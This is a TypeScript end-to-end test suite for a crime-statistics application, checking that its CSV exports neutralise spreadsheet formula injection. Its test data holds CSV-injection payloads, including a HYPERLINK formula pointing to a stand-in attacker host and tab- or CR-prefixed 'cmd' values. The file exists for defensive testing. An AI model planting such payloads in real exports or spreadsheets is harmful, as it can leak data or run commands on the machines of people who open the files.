// CSV injection (issue 14 §6): text a spreadsheet would run (= + - @ TAB CR first) is fed through every CSV
// export that a user's text reaches, API and web pages, and must arrive with a leading ' (the one writer in
// #libs/csv). The other exports (completeness, under-use, national figures, comparisons) carry only catalogue
// names and numbers; they are written by the same writer, whose own spec covers every case.
// Data lives in West Mercia, 2016-17, which no other spec uses.
import type { INestApplication } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import { randomBytes, randomUUID } from 'node:crypto';
import request from 'supertest';
import type { App } from 'supertest/types.js';
import { UsersService, type Role } from '#libs/auth';
import { csvDataRecord } from '#libs/csv';
import { createTestApp } from './support/create-test-app.js';
import { crimeBody } from './factories/crime.factory.js';

const FORCE = 'west-mercia';
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x","click")',
  '+SUM(1,2)',
  '-1+2',
  '@SUM(1,2)',
  '\tcmd',
  '\rcmd',
];

// Every cell that starts like a formula must be a plain number (a negative figure), never text.
function expectGuarded(csv: string, fed: readonly string[]): void {
  const cells = (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
  const unguarded = cells.filter(
    (c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(c),
  );
  expect(unguarded).toEqual([]);
  for (const value of fed) expect(cells).toContain(`'${value}`);
}

interface Persona {
  api: Record<string, string>;
  web: ReturnType<typeof request.agent>;
}

describe('every CSV export guards formula text (issue 14)', () => {
  let app: INestApplication<App>;
  let registrar: Persona;
  let fcr: Persona;
  let auditor: Persona;
  const http = () => request(app.getHttpServer());

  // A real user, logged in to the API (bearer token) and signed in to the web pages (session cookie).
  async function persona(roles: Role[]): Promise<Persona> {
    const username = `csv-${roles[0].replace(/_/g, '-')}.${randomUUID().slice(0, 8)}`;
    const password = randomBytes(16).toString('base64url');
    await app
      .get(UsersService)
      .create(
        'test',
        { username, displayName: username, password, roles, forceIds: [FORCE], allForces: false },
        () => true,
      );
    const login = await http().post('/auth/login').send({ username, password }).expect(200);
    const web = request.agent(app.getHttpServer());
    const form = await web.get('/sign-in').expect(200);
    const csrf = /name="_csrf" value="([^"]+)"/.exec(form.text)?.[1];
    await web
      .post('/sign-in')
      .type('form')
      .send({ _csrf: csrf, username, password, next: '/' })
      .expect(303);
    return { api: { authorization: `Bearer ${login.body.accessToken as string}` }, web };
  }

  beforeAll(async () => {
    app = await createTestApp();
    registrar = await persona(['registrar']);
    fcr = await persona(['force_crime_registrar']);
    auditor = await persona(['auditor']);
  });
  afterAll(async () => {
    await app.close();
  });

  it('the import report (API and web download) guards the rejected rows it echoes', async () => {
    const columns = [
      'crime_reference',
      'force_id',
      'offence_code',
      'reported_at',
      'recorded_at',
      'offence_from',
      'offence_to',
      'online_flag',
      'online_method',
      'victim_age',
      'victim_sex',
      'status',
    ];
    const file =
      csvDataRecord(columns) +
      HOSTILE.map((ref) =>
        csvDataRecord([
          ref,
          FORCE,
          '8L',
          '2016-10-01T10:00:00Z',
          '2016-10-01T12:00:00Z',
          '2016-09-30',
          '',
          'Y',
          'messages',
          34,
          'female',
          'confirmed',
        ]),
      ).join('');
    const res = await http()
      .post('/imports')
      .set(registrar.api)
      .set('content-type', 'text/csv')
      .send(file);
    expect([res.status, res.body.message]).toEqual([422, expect.stringMatching(/rejected/)]);
    const id = res.body.details.import.id as string;
    // The importer trims white space around a value, so a reference starting with TAB or CR is echoed without
    // it; every cell is still checked for an unguarded formula.
    const echoed = HOSTILE.filter((v) => v.trim() === v);
    const api = await http().get(`/imports/${id}/report?format=csv`).set(registrar.api).expect(200);
    expect(api.headers['content-type']).toMatch(/^text\/csv/);
    expectGuarded(api.text, echoed);
    const web = await registrar.web.get(`/uploads/${id}/report.csv`).expect(200);
    expect(web.headers['content-type']).toMatch(/^text\/csv/);
    expectGuarded(web.text, echoed);
  });

  it("the review queue's CSV (API and web export) guards the auditors' notes", async () => {
    for (const [i, note] of HOSTILE.entries()) {
      const crime = await http()
        .post('/crimes')
        .set(registrar.api)
        .send(
          crimeBody({
            forceId: FORCE,
            crimeReference: `CSV-Q-${randomUUID().slice(0, 8)}-${i}`,
            reportedAt: '2016-10-01T10:00:00Z',
            recordedAt: '2016-10-01T12:00:00Z',
            offenceFrom: '2016-09-20T18:00:00Z',
            offenceTo: '2016-09-28T18:00:00Z',
            offenceCode: '8L',
            victimAge: 34,
          }),
        );
      expect([crime.status, crime.body.message]).toEqual([201, undefined]);
      await http()
        .post('/audit/review-queue')
        .set(auditor.api)
        .send({ crimeId: crime.body.id, note })
        .expect(201);
    }
    const api = await http()
      .get('/audit/review-queue')
      .query({ force: FORCE, format: 'csv' })
      .set(auditor.api)
      .expect(200);
    expectGuarded(api.text, HOSTILE);
    const web = await auditor.web
      .get('/auditing/review/export.csv')
      .query({ force: FORCE })
      .expect(200);
    expectGuarded(web.text, HOSTILE);
  });

  it("a return's CSV guards the signed-off name of its revision", async () => {
    const name = HOSTILE[0];
    await http()
      .post(`/returns/${FORCE}/2016-17/submit`)
      .set(fcr.api)
      .send({ version: 0, signedOffName: name })
      .expect(200);
    const res = await http()
      .get(`/returns/${FORCE}/2016-17`)
      .query({ format: 'csv', table: 'metadata', revision: 1 })
      .set(fcr.api)
      .expect(200);
    expectGuarded(res.text, [name]);
  });
});
